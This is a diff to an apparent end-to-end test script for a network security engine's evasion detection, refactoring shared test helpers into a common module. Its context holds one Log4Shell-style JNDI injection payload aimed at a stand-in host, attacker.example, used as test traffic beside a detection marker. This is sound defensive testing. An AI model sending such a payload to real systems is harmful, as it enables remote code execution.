@@ -21,18 +21,15 @@ import argparse
 import json
 import os
 import random
-import shutil
 import socket
 import struct
 import subprocess
 import sys
-import tempfile
 import threading
 import time
 
-HERE = os.path.dirname(os.path.abspath(__file__))
-ROOT = os.path.normpath(os.path.join(HERE, '..', '..'))
-sys.path.insert(0, os.path.join(ROOT, 'scripts'))
+import e2e_common
+from e2e_common import ROOT
 
 CLIENT_IP, SERVER_IP, APPLIANCE_IP = '10.0.0.10', '10.0.0.20', '10.0.0.2'
 HTTP_PORT, BLOCKED_PORT, OPEN_PORT, UDP_PORT, MGMT_PORT = 80, 2222, 2223, 9999, 7400
@@ -64,15 +61,8 @@ UDP_INJECT = b'log line 0001 user=${jndi:ldap://attacker.example/a} end of recor
 UDP_MARK = b'${jndi:'
 UDP_BENIGN = b'log line 0001 user=$(plain-user-name-12345678) end of record......'
 
-results = {'bootargs': BOOTARGS, 'checks': [], 'cases': [], 'floods': [], 'mgmt': {}}
-
-
-def check(phase, name, ok, required=True, **figures):
-    """One recorded check. `required=False` rows are reported (info) and never fail the run."""
-    results['checks'].append({'phase': phase, 'name': name, 'ok': bool(ok), 'required': required, **figures})
-    tag = ('ok  ' if ok else 'FAIL') if required else ('info' if ok else 'info-no')
-    print('%s [%s] %s %s' % (tag, phase, name, json.dumps(figures, default=str) if figures else ''), flush=True)
-    return ok
+results = e2e_common.new_results(bootargs=BOOTARGS, cases=[], floods=[], mgmt={})
+check = e2e_common.checker(results)  # check(..., required=False): reported (info), never fails the run
 
 
 # =============================================================================================
@@ -759,27 +749,24 @@ def main():
             return 2
     else:
         chosen = [n for n, default, _ in CASES if default or full] + ['flood', 'mgmt']
-    if os.geteuid() != 0:
-        print('SKIP: evasion e2e tests need root (network namespaces, TAP devices); run `sudo make e2e`')
-        return 77
+    rc = e2e_common.preflight('evasion e2e tests', ('hping3', 'curl', 'iptables', 'ip'))
+    if rc is not None:
+        return rc
     if not scapy_python():
         print('FAIL: python3-scapy missing (make deps installs it)')
         return 1
-    missing = [t for t in ('hping3', 'curl', 'iptables', 'ip') if not shutil.which(t)]
-    if missing or not a.elf:
-        print('FAIL: missing tools %s or kernel image (make deps installs the tools)' % missing)
+    if not a.elf:
+        print('FAIL: no kernel image given')
         return 1
     if not os.path.exists(a.secctl) and ('blocked_port' in chosen or 'mgmt' in chosen):
         print('note: %s not built: blocked_port and mgmt skipped (build the host tree first)' % a.secctl)
         chosen = [c for c in chosen if c not in ('blocked_port', 'mgmt')]
     import e2e_topology
-    work = tempfile.mkdtemp(prefix='secengine-evasion-')
-    results.update({'elf': a.elf, 'work': work, 'full': full, 'cases_run': chosen,
-                    'date': time.strftime('%Y-%m-%d %H:%M:%S UTC', time.gmtime())})
-    t0 = time.time()
+    results.update({'elf': a.elf, 'full': full, 'cases_run': chosen})
     env = Env()
     env.secctl, env.ports = a.secctl, Ports()
-    try:
+
+    def body(work):
         with e2e_topology.Topology(a.elf, None, BOOTARGS, log_dir=work) as topo:
             env.topo = topo
             results['ready'] = topo.qemu.ready.group(0)
@@ -804,24 +791,8 @@ def main():
             finally:
                 env.sender.close()
             results['final_stats'] = topo.qemu.stats()
-    except Exception as e:  # a broken step is a failed check, and the topology is already down
-        check('setup', 'run completed', False, error='%s: %s' % (type(e).__name__, e))
-    results['seconds'] = round(time.time() - t0, 1)
-    failed = [c for c in results['checks'] if not c['ok'] and c['required']]
-    results['passed'] = sum(1 for c in results['checks'] if c['ok'] and c['required'])
-    results['failed'] = len(failed)
     out = a.results or os.path.join(ROOT, 'build', 'evasion_results.json')
-    os.makedirs(os.path.dirname(os.path.abspath(out)), exist_ok=True)
-    with open(out, 'w') as f:
-        json.dump(results, f, indent=1, default=str)
-    print('%d checks, %d failed, %.0f s; results in %s' % (len(results['checks']), len(failed), results['seconds'], out))
-    for c in failed:
-        print('FAIL [%s] %s %s' % (c['phase'], c['name'], c.get('server_received', '')))
-    if not a.keep:
-        shutil.rmtree(work, ignore_errors=True)
-    else:
-        print('work directory kept: %s' % work)
-    return 1 if failed else 0
+    return e2e_common.run(results, check, 'secengine-evasion-', body, out, a.keep)
 
 
 if __name__ == '__main__':
